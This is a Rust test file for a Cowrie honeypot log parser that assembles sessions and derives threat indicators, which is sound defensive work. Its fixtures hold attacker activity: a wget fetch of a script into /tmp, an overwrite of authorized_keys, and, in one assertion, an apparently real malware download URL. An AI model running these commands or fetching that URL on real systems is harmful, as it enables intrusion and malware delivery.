//! The reader against the spec's variants (inline fixtures) and the four real logs.

use super::*;
use crate::cowrie::derive::{reports, DeriveOptions};
use apiary_core::IType;
use std::path::PathBuf;

fn read_bytes(input: &[u8]) -> (Vec<Session>, ReadStats) {
    let mut asm = Assembler::new(ReadOptions::default());
    let mut sessions = Vec::new();
    asm.read(input, "fixture.json", "fixture", &mut |_| {}, &mut |s| sessions.push(s)).unwrap();
    asm.finish(&mut |s| sessions.push(s));
    (sessions, asm.into_stats())
}

fn one_session(input: &[u8]) -> (Session, ReadStats) {
    let (mut s, st) = read_bytes(input);
    assert_eq!(s.len(), 1, "expected one session, got {s:#?}");
    (s.remove(0), st)
}

fn utc(s: &str) -> chrono::DateTime<chrono::Utc> {
    chrono::DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&chrono::Utc)
}

/// 2017 shape: no `protocol`, `system`/`isError`, spaced JSON, `cowrie.command.success`.
const V2017: &str = r#"{"eventid": "cowrie.session.connect", "timestamp": "2017-11-04T13:43:25.035515Z", "session": "f3dbcf2ed42b", "message": "New connection", "src_port": 50226, "system": "cowrie.ssh.factory.CowrieSSHFactory", "isError": 0, "src_ip": "192.0.2.91", "dst_port": 2222, "dst_ip": "10.3.66.85", "sensor": "scw-1"}
{"eventid": "cowrie.client.version", "timestamp": "2017-11-04T13:43:25.794831Z", "session": "f3dbcf2ed42b", "kexAlgs": ["diffie-hellman-group1-sha1"], "message": "Remote SSH version: SSH-2.0-Granados-1.0", "system": "HoneyPotSSHTransport,1,192.0.2.91", "isError": 0, "src_ip": "192.0.2.91", "version": "SSH-2.0-Granados-1.0", "sensor": "scw-1"}
{"eventid": "cowrie.login.failed", "username": "admin", "timestamp": "2017-11-04T13:43:26.000000Z", "message": "login attempt [admin/admin] failed", "system": "x", "isError": 0, "src_ip": "192.0.2.91", "session": "f3dbcf2ed42b", "password": "admin", "sensor": "scw-1"}
{"eventid": "cowrie.login.success", "username": "root", "timestamp": "2017-11-04T13:43:27.000000Z", "message": "login attempt [root/1234] succeeded", "system": "x", "isError": 0, "src_ip": "192.0.2.91", "session": "f3dbcf2ed42b", "password": "1234", "sensor": "scw-1"}
{"eventid": "cowrie.command.input", "timestamp": "2017-11-04T13:43:28.000000Z", "session": "f3dbcf2ed42b", "input": "cd /tmp; wget http://198.51.100.9/x.sh", "message": "CMD", "system": "x", "isError": 0, "src_ip": "192.0.2.91", "sensor": "scw-1"}
{"eventid": "cowrie.command.success", "timestamp": "2017-11-04T13:43:28.100000Z", "session": "f3dbcf2ed42b", "input": "cd /tmp", "message": "Command found", "system": "x", "isError": 0, "src_ip": "192.0.2.91", "sensor": "scw-1"}
{"eventid": "cowrie.session.file_download", "src_ip": "192.0.2.91", "session": "f3dbcf2ed42b", "shasum": "F80FB0BD5BAD239BA382226E73C80BE3DA5CEBCF35BA280884E22C051A117087", "url": "http://198.51.100.9/x.sh", "timestamp": "2017-11-04T13:43:29.000000Z", "outfile": "dl/f80f", "sensor": "scw-1", "message": "Downloaded URL"}
{"eventid": "cowrie.session.closed", "timestamp": "2017-11-04T13:43:30.000000Z", "message": "Connection lost after 4 seconds", "system": "x", "isError": 0, "src_ip": "192.0.2.91", "duration": 4.9, "session": "f3dbcf2ed42b", "sensor": "scw-1"}
"#;

#[test]
fn session_2017_without_protocol() {
    let (s, st) = one_session(V2017.as_bytes());
    assert_eq!(st.lines_rejected, 0);
    assert_eq!((st.events, st.sessions, st.sessions_unclosed), (8, 1, 0));
    assert_eq!(s.sensor, "scw-1");
    assert_eq!(s.protocol.as_deref(), Some("ssh"));
    assert!(s.protocol_inferred, "2017 logs have no `protocol`: inferred from `system`");
    assert_eq!((s.src_port, s.dst_ip.as_deref(), s.dst_port), (Some(50226), Some("10.3.66.85"), Some(2222)));
    assert_eq!(s.client_version.as_deref(), Some("SSH-2.0-Granados-1.0"));
    let creds: Vec<_> = s.credentials.iter().map(|c| (c.username.as_deref(), c.password.as_deref(), c.success)).collect();
    assert_eq!(creds, vec![(Some("admin"), Some("admin"), false), (Some("root"), Some("1234"), true)]);
    assert!(s.logged_in);
    assert_eq!(s.commands.len(), 2);
    assert_eq!(s.commands[1].status, CommandStatus::Found);
    assert_eq!(s.downloads[0].shasum.as_deref(), Some("f80fb0bd5bad239ba382226e73c80be3da5cebcf35ba280884e22c051a117087"));
    assert_eq!(s.depth(), Depth::Payload);
    assert_eq!(s.start, Some(utc("2017-11-04T13:43:25.035515Z")));
    assert_eq!(s.end, Some(utc("2017-11-04T13:43:30Z")));
    assert_eq!(s.duration_secs(), Some(4.9));

    let d = reports(&s, &DeriveOptions::default());
    assert!(d.rejected.is_empty(), "{:?}", d.rejected);
    let got: Vec<_> = d.reports.iter().map(|r| (r.indicator.itype, r.indicator.value.as_str(), r.tags.join(","))).collect();
    assert_eq!(
        got,
        vec![
            (IType::Ipv4, "192.0.2.91", "bruteforce,login,commands,download".to_owned()),
            (IType::Url, "http://198.51.100.9/x.sh", "malware,download".to_owned()),
            (IType::Ipv4, "198.51.100.9", "malware,download".to_owned()),
            (IType::Sha256, "f80fb0bd5bad239ba382226e73c80be3da5cebcf35ba280884e22c051a117087", "malware,payload".to_owned()),
        ]
    );
    let attacker = &d.reports[0];
    assert_eq!((attacker.port, attacker.protocol.as_deref()), (Some(2222), Some("ssh")));
    assert_eq!(attacker.observed_at, s.start);
    assert_eq!(attacker.sensor.as_deref(), Some("scw-1"));
    assert_eq!(attacker.extra["loggedin"], serde_json::json!(["root", "1234"]));
    assert_eq!(attacker.extra["depth"], "payload");
    // Keys: stable across reads, distinct per report.
    let again = reports(&read_bytes(V2017.as_bytes()).0[0], &DeriveOptions::default());
    let k1: Vec<_> = d.reports.iter().map(|r| r.idempotency_key.clone()).collect();
    let k2: Vec<_> = again.reports.iter().map(|r| r.idempotency_key.clone()).collect();
    assert_eq!(k1, k2);
    let mut uniq = k1.clone();
    uniq.sort();
    uniq.dedup();
    assert_eq!(uniq.len(), k1.len());
}

#[test]
fn scanner_only_session_and_telnet() {
    let input = br#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.20","src_port":56744,"dst_ip":"192.168.1.12","dst_port":2223,"session":"95d53f260afd","protocol":"telnet","message":"New connection","sensor":"telnet-honeypot","timestamp":"2020-05-28T00:01:52.503235Z"}
{"eventid":"cowrie.session.closed","duration":32.7,"message":"Connection lost after 32 seconds","sensor":"telnet-honeypot","timestamp":"2020-05-28T00:02:25.251247Z","src_ip":"198.51.100.20","session":"95d53f260afd"}
"#;
    let (s, _) = one_session(input);
    assert_eq!(s.depth(), Depth::Connect);
    let d = reports(&s, &DeriveOptions::default());
    assert_eq!(d.reports.len(), 1);
    assert_eq!(d.reports[0].tags, vec!["scanner"]);
    assert_eq!(d.reports[0].protocol.as_deref(), Some("telnet"));
    assert!(!s.protocol_inferred);
}

#[test]
fn timestamps_naive_and_offset_without_colon() {
    let input = br#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.21","session":"aaaaaaaaaaaa","sensor":"s","timestamp":"2021-03-01T10:00:00.500000+0000","dst_port":22,"protocol":"ssh"}
{"eventid":"cowrie.login.failed","username":"root","password":"x","src_ip":"198.51.100.21","session":"aaaaaaaaaaaa","sensor":"s","timestamp":"2021-03-01T10:00:01.000000"}
{"eventid":"cowrie.session.closed","duration":"2.5","src_ip":"198.51.100.21","session":"aaaaaaaaaaaa","sensor":"s","timestamp":"2021-03-01T11:00:02.000000+0100"}
"#;
    let (s, st) = one_session(input);
    assert_eq!(st.bad_timestamps, 0, "{:?}", st.problems);
    assert_eq!(s.start, Some(utc("2021-03-01T10:00:00.5Z")));
    assert_eq!(s.credentials[0].time, Some(utc("2021-03-01T10:00:01Z")), "naive times are UTC");
    assert_eq!(s.end, Some(utc("2021-03-01T10:00:02Z")));
    assert_eq!(s.duration, Some(2.5), "`duration` as a string (ssh, Cowrie 2.7–3.0.3)");
}

#[test]
fn duration_ms_and_bad_timestamp() {
    let input = br#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.22","session":"bbbbbbbbbbbb","sensor":"s","timestamp":"yesterday"}
{"eventid":"cowrie.session.closed","duration_ms":1500,"src_ip":"198.51.100.22","session":"bbbbbbbbbbbb","sensor":"s","timestamp":"2023-01-01T00:00:01Z"}
"#;
    let (s, st) = one_session(input);
    assert_eq!(s.duration, Some(1.5));
    assert_eq!(st.bad_timestamps, 1);
    assert_eq!(st.problems[0].kind, ProblemKind::BadTimestamp);
    assert_eq!(st.problems[0].line, 1);
    assert_eq!(st.lines_rejected, 0, "a bad time is a warning: the event is still read");
    assert_eq!(s.start, Some(utc("2023-01-01T00:00:01Z")));
}

#[test]
fn tpot_renamed_fields_and_unknown_fields_kept() {
    let input = br#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.23","src_port":4000,"dest_ip":"172.20.0.2","dest_port":22,"session":"cccccccccccc","protocol":"ssh","sensor":"tpot","timestamp":"2022-01-01T00:00:00Z","@timestamp":"2022-01-01T00:00:00.000Z","t-pot_hostname":"hive","geoip":{"country_code2":"XX"},"type":"Cowrie"}
{"eventid":"cowrie.session.closed","duration":1.0,"src_ip":"198.51.100.23","session":"cccccccccccc","sensor":"tpot","timestamp":"2022-01-01T00:00:01Z","t-pot_hostname":"hive"}
"#;
    let (s, _) = one_session(input);
    assert_eq!((s.dst_ip.as_deref(), s.dst_port), (Some("172.20.0.2"), Some(22)));
    assert_eq!(s.other_fields.keys().collect::<Vec<_>>(), vec!["geoip", "t-pot_hostname"]);
    let d = reports(&s, &DeriveOptions::default());
    assert_eq!(d.reports[0].port, Some(22));
    assert_eq!(d.reports[0].extra["fields"]["t-pot_hostname"], "hive");
}

#[test]
fn unknown_eventids_kept_and_message_as_list() {
    let input = br#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.24","session":"dddddddddddd","sensor":"s","timestamp":"2022-01-01T00:00:00Z","protocol":"ssh"}
{"eventid":"cowrie.session.params","arch":"linux-arm-lsb","message":[],"sensor":"s","timestamp":"2022-01-01T00:00:01Z","src_ip":"198.51.100.24","session":"dddddddddddd"}
{"eventid":"cowrie.future.thing","answer":42,"sensor":"s","timestamp":"2022-01-01T00:00:02Z","src_ip":"198.51.100.24","session":"dddddddddddd"}
{"eventid":"cowrie.session.closed","duration":3,"sensor":"s","timestamp":"2022-01-01T00:00:03Z","src_ip":"198.51.100.24","session":"dddddddddddd"}
"#;
    let (s, st) = one_session(input);
    assert_eq!(s.arch.as_deref(), Some("linux-arm-lsb"));
    assert_eq!(st.unknown_eventids.get("cowrie.future.thing"), Some(&1));
    assert_eq!(s.other_events.len(), 1);
    assert_eq!(s.other_events[0]["answer"], 42);
    assert_eq!(s.events, 4);
    let d = reports(&s, &DeriveOptions::default());
    assert_eq!(d.reports[0].extra["other_events"][0]["eventid"], "cowrie.future.thing");
}

#[test]
fn invalid_utf8_not_json_and_half_line_at_eof() {
    // TI-15: raw non-UTF-8 bytes in a command; the event and every later line are read.
    let mut input = Vec::new();
    input.extend_from_slice(br#"{"eventid":"cowrie.session.connect","src_ip":"203.0.113.50","session":"a1b2c3d4","sensor":"s","timestamp":"2016-10-04T10:00:00.000000Z"}"#);
    input.push(b'\n');
    input.extend_from_slice(br#"{"eventid":"cowrie.command.input","src_ip":"203.0.113.50","session":"a1b2c3d4","input":"echo "#);
    input.extend_from_slice(&[0xA1, 0xFF]);
    input.extend_from_slice(br#" > /tmp/x","timestamp":"2016-10-04T10:00:00.000000Z","sensor":"s"}"#);
    input.push(b'\n');
    input.extend_from_slice(b"this is not json\n");
    input.extend_from_slice(b"\n");
    input.extend_from_slice(br#"{"eventid":"cowrie.login.failed","username":"u","password":"p","src_ip":"203.0.113.50","session":"a1b2c3d4","sensor":"s","timestamp":"2016-10-04T10:00:01Z"}"#);
    input.push(b'\n');
    input.extend_from_slice(br#"{"eventid":"cowrie.session.closed","src_ip":"203.0.113.50","sess"#);
    let (s, st) = one_session(&input);
    assert_eq!(s.commands[0].input, "echo \u{FFFD}\u{FFFD} > /tmp/x");
    assert_eq!(s.credentials.len(), 1, "lines after the bad ones are read");
    assert!(!s.closed, "the half line at EOF is not read");
    assert_eq!((st.lines, st.blank_lines, st.events, st.lines_rejected, st.lines_invalid_utf8), (6, 1, 3, 2, 1));
    let kinds: Vec<_> = st.problems.iter().map(|p| (p.line, p.kind)).collect();
    assert_eq!(
        kinds,
        vec![(2, ProblemKind::InvalidUtf8), (3, ProblemKind::NotJson), (6, ProblemKind::IncompleteLine)]
    );
    assert!(st.problems[1].to_string().starts_with("line 3 of fixture.json: not a JSON object"));
    let d = reports(&s, &DeriveOptions::default());
    assert_eq!(d.reports[0].indicator.value, "203.0.113.50");
    assert!(d.reports[0].extra["unclosed"].as_bool().unwrap());
}

#[test]
fn complete_last_line_without_newline_is_read() {
    let input = br#"{"eventid":"cowrie.session.closed","src_ip":"198.51.100.25","session":"eeeeeeeeeeee","sensor":"s","timestamp":"2022-01-01T00:00:03Z"}"#;
    let (s, st) = one_session(input);
    assert!(s.closed);
    assert_eq!(st.lines_rejected, 0);
}

#[test]
fn sessions_are_keyed_per_sensor() {
    let input = br#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.26","session":"ffffffffffff","sensor":"one","timestamp":"2022-01-01T00:00:00Z"}
{"eventid":"cowrie.session.connect","src_ip":"198.51.100.27","session":"ffffffffffff","sensor":"two","timestamp":"2022-01-01T00:00:00Z"}
{"eventid":"cowrie.session.closed","src_ip":"198.51.100.27","session":"ffffffffffff","sensor":"two","timestamp":"2022-01-01T00:00:01Z"}
{"eventid":"no.session.here","src_ip":"198.51.100.28","sensor":"two","timestamp":"2022-01-01T00:00:01Z"}
"#;
    let (sessions, st) = read_bytes(input);
    let got: Vec<_> = sessions.iter().map(|s| (s.sensor.as_str(), s.src_ip.as_deref(), s.closed)).collect();
    assert_eq!(got, vec![("two", Some("198.51.100.27"), true), ("one", Some("198.51.100.26"), false)]);
    assert_eq!(st.sessions_unclosed, 1);
    assert_eq!(st.problems_by_kind.get(&ProblemKind::NoSession), Some(&1));
    let k1 = &reports(&sessions[0], &DeriveOptions::default()).reports[0].idempotency_key;
    let k2 = &reports(&sessions[1], &DeriveOptions::default()).reports[0].idempotency_key;
    assert_ne!(k1, k2);
}

#[test]
fn pubkey_redirect_upload_tunnel_failed_download() {
    let input = br#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.30","session":"111111111111","sensor":"s","timestamp":"2022-01-01T00:00:00Z","protocol":"ssh","dst_port":22}
{"eventid":"cowrie.client.kex","hassh":"51cba57125523ce4b9db67714a90bf6e","sensor":"s","timestamp":"2022-01-01T00:00:00.1Z","src_ip":"198.51.100.30","session":"111111111111"}
{"eventid":"cowrie.login.failed","username":"root","fingerprint":"aa:bb","key":"ssh-rsa AAAA","type":"ssh-rsa","sensor":"s","timestamp":"2022-01-01T00:00:01Z","src_ip":"198.51.100.30","session":"111111111111"}
{"eventid":"cowrie.login.success","username":"root","password":"root","sensor":"s","timestamp":"2022-01-01T00:00:02Z","src_ip":"198.51.100.30","session":"111111111111"}
{"eventid":"cowrie.direct-tcpip.request","dst_ip":"example.com","dst_port":443,"src_ip":"198.51.100.30","src_port":0,"session":"111111111111","sensor":"s","timestamp":"2022-01-01T00:00:03Z"}
{"eventid":"cowrie.direct-tcpip.data","dst_ip":"example.com","dst_port":443,"data":"GET / HTTP/1.1","src_ip":"198.51.100.30","session":"111111111111","sensor":"s","timestamp":"2022-01-01T00:00:03Z"}
{"eventid":"cowrie.session.file_download","duplicate":false,"outfile":"var/lib/cowrie/downloads/942641e3997f98bd38ad91561f50910b071a9c495fdff745996cd6c0c2212c18","shasum":"942641e3997f98bd38ad91561f50910b071a9c495fdff745996cd6c0c2212c18","destfile":"/root/.ssh/authorized_keys","sensor":"s","timestamp":"2022-01-01T00:00:04Z","src_ip":"198.51.100.30","session":"111111111111"}
{"eventid":"cowrie.session.file_download.failed","url":"http://198.51.100.40/bins.sh","error":"Connection refused","sensor":"s","timestamp":"2022-01-01T00:00:05Z","src_ip":"198.51.100.30","session":"111111111111"}
{"eventid":"cowrie.session.file_upload","filename":"a.out","outfile":"x","shasum":"1d5e6624a2ce55616ef078a72f25c9d71a3dbc0175522c0d8e07233115824f96","sensor":"s","timestamp":"2022-01-01T00:00:06Z","src_ip":"198.51.100.30","session":"111111111111"}
{"eventid":"cowrie.log.closed","ttylog":"var/lib/cowrie/tty/6ee6","size":1294,"shasum":"6ee61a6a169fa4c7e820fabbf1d7d2f6d92f36281f143293531ebc86bcc035b7","duration":1.1,"sensor":"s","timestamp":"2022-01-01T00:00:07Z","src_ip":"198.51.100.30","session":"111111111111"}
{"eventid":"cowrie.session.closed","duration_ms":8000,"sensor":"s","timestamp":"2022-01-01T00:00:08Z","src_ip":"198.51.100.30","session":"111111111111"}
"#;
    let (s, st) = one_session(input);
    assert!(st.unknown_eventids.is_empty());
    assert_eq!(s.hassh.as_deref(), Some("51cba57125523ce4b9db67714a90bf6e"));
    assert_eq!(s.credentials[0].fingerprint.as_deref(), Some("aa:bb"));
    assert_eq!(s.credentials[0].password, None);
    assert_eq!(s.tunnels.len(), 1);
    assert_eq!((s.tunnels[0].requests, s.tunnels[0].data_events, s.tunnels[0].data_bytes), (1, 1, 14));
    assert_eq!(s.downloads[1].error.as_deref(), Some("Connection refused"));
    assert_eq!(s.uploads.len(), 1);
    let tty = s.ttylog.as_ref().unwrap();
    assert_eq!((tty.size, tty.shasum.as_deref().map(|h| &h[..4])), (Some(1294), Some("6ee6")));
    assert_eq!(s.duration, Some(8.0), "the session's duration, not the tty log's");
    assert_eq!(s.depth(), Depth::Payload);

    let d = reports(&s, &DeriveOptions::default());
    let got: Vec<_> = d.reports.iter().map(|r| (r.indicator.itype, r.tags.join(","))).collect();
    assert_eq!(
        got,
        vec![
            (IType::Ipv4, "bruteforce,login,upload,tunnel".to_owned()),
            (IType::Url, "malware,download".to_owned()),
            (IType::Ipv4, "malware,download".to_owned()),
            (IType::Sha256, "payload,redirect".to_owned()),
            (IType::Sha256, "malware,payload,upload".to_owned()),
        ]
    );
    assert_eq!(d.reports[1].extra["failed"], true);
    assert_eq!(d.reports[0].extra["ttylog_shasum"].as_str().unwrap().len(), 64);
    assert_eq!(d.reports[0].extra["credentials"][0], serde_json::json!(["root", {"fingerprint": "aa:bb"}]));
}

#[test]
fn bad_values_are_rejected_not_dropped_silently() {
    let input = br#"{"eventid":"cowrie.session.connect","src_ip":"not-an-ip!","session":"222222222222","sensor":"s","timestamp":"2022-01-01T00:00:00Z"}
{"eventid":"cowrie.session.file_download","url":"::nonsense::","shasum":"abc","sensor":"s","timestamp":"2022-01-01T00:00:04Z","src_ip":"not-an-ip!","session":"222222222222"}
"#;
    let (s, _) = one_session(input);
    let d = reports(&s, &DeriveOptions::default());
    assert!(d.reports.is_empty(), "{:?}", d.reports);
    let what: Vec<_> = d.rejected.iter().map(|(w, v, _)| (*w, v.as_str())).collect();
    assert_eq!(what, vec![("src_ip", "not-an-ip!"), ("url", "::nonsense::"), ("shasum", "abc")]);
}

/// `../shared` beside the repository: required in CI, skipped with a message elsewhere.
fn shared_cowrie_dir() -> Option<PathBuf> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/cowrie");
    if dir.is_dir() {
        return Some(dir);
    }
    if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("CI=true but {} is missing: the real Cowrie logs are required", dir.display());
    }
    eprintln!("skipping: {} not found (set CI=true to make this an error)", dir.display());
    None
}

/// Counts computed a second way, from generic JSON, to check the assembler against.
#[derive(Debug, Default, PartialEq)]
struct Independent {
    events: u64,
    sessions: u64,
    credentials: usize,
    logins: usize,
    command_events: usize,
    downloads: usize,
}

fn independent_counts(path: &std::path::Path) -> Independent {
    let text = std::fs::read(path).unwrap();
    let mut keys = std::collections::HashSet::new();
    let mut c = Independent::default();
    for line in text.split(|b| *b == b'\n').filter(|l| !l.is_empty()) {
        let v: serde_json::Value = serde_json::from_slice(line).unwrap();
        c.events += 1;
        keys.insert((v["sensor"].as_str().unwrap().to_owned(), v["session"].as_str().unwrap().to_owned()));
        let id = v["eventid"].as_str().unwrap();
        if id.starts_with("cowrie.login.") {
            c.credentials += 1;
        }
        if id == "cowrie.login.success" {
            c.logins += 1;
        }
        if id.starts_with("cowrie.command.") {
            c.command_events += 1;
        }
        if id.starts_with("cowrie.session.file_download") {
            c.downloads += 1;
        }
    }
    c.sessions = keys.len() as u64;
    c
}

#[test]
fn real_logs_match_an_independent_count() {
    let Some(dir) = shared_cowrie_dir() else { return };
    let files = ["sensor-a.2017-11-04.json", "sensor-b.2018-06-14.json", "sensor-c.2020-05-28.json", "sensor-d.2022-07-17.json"];
    let expected_sessions = [260, 323, 234, 1206];
    for (file, want_sessions) in files.iter().zip(expected_sessions) {
        let path = dir.join(file);
        let mut asm = Assembler::new(ReadOptions::default());
        let mut sessions = Vec::new();
        asm.read_path(&path, &mut |_| {}, &mut |s| sessions.push(s)).unwrap();
        asm.finish(&mut |s| sessions.push(s));
        let st = asm.into_stats();
        let ind = independent_counts(&path);
        assert_eq!(st.lines_rejected, 0, "{file}: {:?}", st.problems);
        assert_eq!(st.bad_timestamps, 0, "{file}: {:?}", st.problems);
        assert!(st.unknown_eventids.keys().all(|k| k == "cowrie.client.size" || k.is_empty()), "{file}: {:?}", st.unknown_eventids);
        assert_eq!(st.events, ind.events, "{file}");
        assert_eq!(st.sessions, ind.sessions, "{file}");
        assert_eq!(st.sessions, want_sessions, "{file}");
        assert_eq!(sessions.iter().map(|s| s.credentials.len()).sum::<usize>(), ind.credentials, "{file}");
        assert_eq!(sessions.iter().filter(|s| s.logged_in).count(), ind.logins, "{file}: one success per session");
        assert_eq!(sessions.iter().map(|s| s.commands.len()).sum::<usize>(), ind.command_events, "{file}");
        assert_eq!(sessions.iter().map(|s| s.downloads.len()).sum::<usize>(), ind.downloads, "{file}");
        assert!(sessions.iter().all(|s| s.start.is_some() && s.src_ip.is_some() && s.protocol.is_some()), "{file}");

        let mut attackers = 0;
        let mut keys = std::collections::HashSet::new();
        for s in &sessions {
            let d = reports(s, &DeriveOptions::default());
            assert!(d.rejected.is_empty(), "{file}: {:?}", d.rejected);
            let a = &d.reports[0];
            assert!(a.indicator.itype.is_address());
            assert!(!a.tags.is_empty());
            assert_eq!(a.port, s.dst_port);
            attackers += 1;
            for r in &d.reports {
                assert!(keys.insert(r.idempotency_key.clone()), "{file}: duplicate key");
            }
        }
        assert_eq!(attackers, sessions.len());
    }
}

#[test]
fn real_logs_depths_and_downloads() {
    let Some(dir) = shared_cowrie_dir() else { return };
    // sensor-d (2022): four downloads, one of them with a URL fetched from its own host.
    let mut asm = Assembler::new(ReadOptions::default());
    let mut sessions = Vec::new();
    asm.read_path(&dir.join("sensor-d.2022-07-17.json"), &mut |_| {}, &mut |s| sessions.push(s)).unwrap();
    asm.finish(&mut |s| sessions.push(s));
    let payload: Vec<_> = sessions.iter().filter(|s| s.depth() == Depth::Payload).collect();
    assert_eq!(payload.len(), 3, "{:?}", payload.iter().map(|s| &s.session).collect::<Vec<_>>());
    let urls: Vec<_> = sessions
        .iter()
        .flat_map(|s| reports(s, &DeriveOptions::default()).reports)
        .filter(|r| r.indicator.itype == IType::Url)
        .map(|r| r.indicator.value)
        .collect();
    assert_eq!(urls, vec!["http://194.31.98.244/ssh/new/x86"]);
    let hassh = sessions.iter().filter(|s| s.hassh.is_some()).count();
    assert!(hassh > 900, "{hassh}");
    // sensor-a (2017): no `protocol`, yet every session's protocol is known.
    let mut asm = Assembler::new(ReadOptions::default());
    let mut a = Vec::new();
    asm.read_path(&dir.join("sensor-a.2017-11-04.json"), &mut |_| {}, &mut |s| a.push(s)).unwrap();
    asm.finish(&mut |s| a.push(s));
    assert!(a.iter().all(|s| s.protocol.as_deref() == Some("ssh") && s.protocol_inferred));
    assert!(a.iter().any(|s| !s.tunnels.is_empty()));
}
